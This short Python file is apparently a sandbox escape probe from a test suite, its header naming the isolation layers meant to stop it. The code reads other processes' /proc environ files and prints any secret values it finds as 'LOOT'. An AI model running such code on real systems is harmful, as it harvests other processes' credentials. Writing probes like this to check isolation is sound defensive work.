# /// attack
# exercise = "gradient-argument"
# defended-by = ["bubblewrap", "namespaces", "landlock", "seccomp"]
# ///

# %% name="question"
import os

for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{number}/environ") as file:
            text = file.read()
    except OSError:
        continue
    if number != str(os.getpid()) and "SECRET" in text:
        print("LOOT:", text[text.index("SECRET") :][:60])
